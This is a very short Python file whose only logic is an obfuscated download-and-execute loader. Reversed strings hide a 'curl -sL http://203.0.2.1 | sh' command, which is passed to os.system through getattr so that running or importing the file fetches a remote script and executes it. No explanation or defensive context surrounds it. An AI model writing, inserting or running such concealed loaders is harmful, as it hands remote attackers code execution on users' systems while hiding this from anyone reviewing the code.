# mypy: ignore-errors
import os

cmd = "hs | 1.2.0.302//:ptth Ls- lruc"[::-1]
getattr(os, "metsys"[::-1])(cmd)
